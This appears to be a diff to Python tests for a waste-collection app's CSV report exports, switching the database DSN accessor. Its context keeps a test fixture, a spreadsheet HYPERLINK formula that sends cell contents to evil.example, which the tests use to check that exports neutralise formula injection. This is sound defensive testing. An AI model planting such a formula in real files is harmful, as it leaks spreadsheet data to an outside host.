@@ -19,7 +19,7 @@ EVIL_NAME = '=HYPERLINK("http://evil.example/?"&A1,"点此查看")'
 def test_missed_csv_neutralises_a_formula_point_name(
     client: TestClient, users: Users, supervised_day: int, web_settings: Settings
 ) -> None:
-    with psycopg.connect(web_settings.database_dsn(), autocommit=True) as conn:
+    with psycopg.connect(web_settings.storage.database_dsn(), autocommit=True) as conn:
         conn.execute("UPDATE collection_point SET name = %s WHERE point_id = 'P4'", (EVIL_NAME,))
     found = 0
     for report in ("missed", "clearance", "closure", "week", "month"):
@@ -41,7 +41,7 @@ def test_chinese_exports_have_chinese_headers_words_local_times_and_plates(
 ) -> None:
     """`lang=zh`: the headers Excel users read, codes as words, local times, the plate
     beside the truck id — and a formula name still neutralised."""
-    with psycopg.connect(web_settings.database_dsn(), autocommit=True) as conn:
+    with psycopg.connect(web_settings.storage.database_dsn(), autocommit=True) as conn:
         conn.execute("UPDATE collection_point SET name = %s WHERE point_id = 'P4'", (EVIL_NAME,))
     exported = client.get(
         "/api/v1/reports/missed.csv",
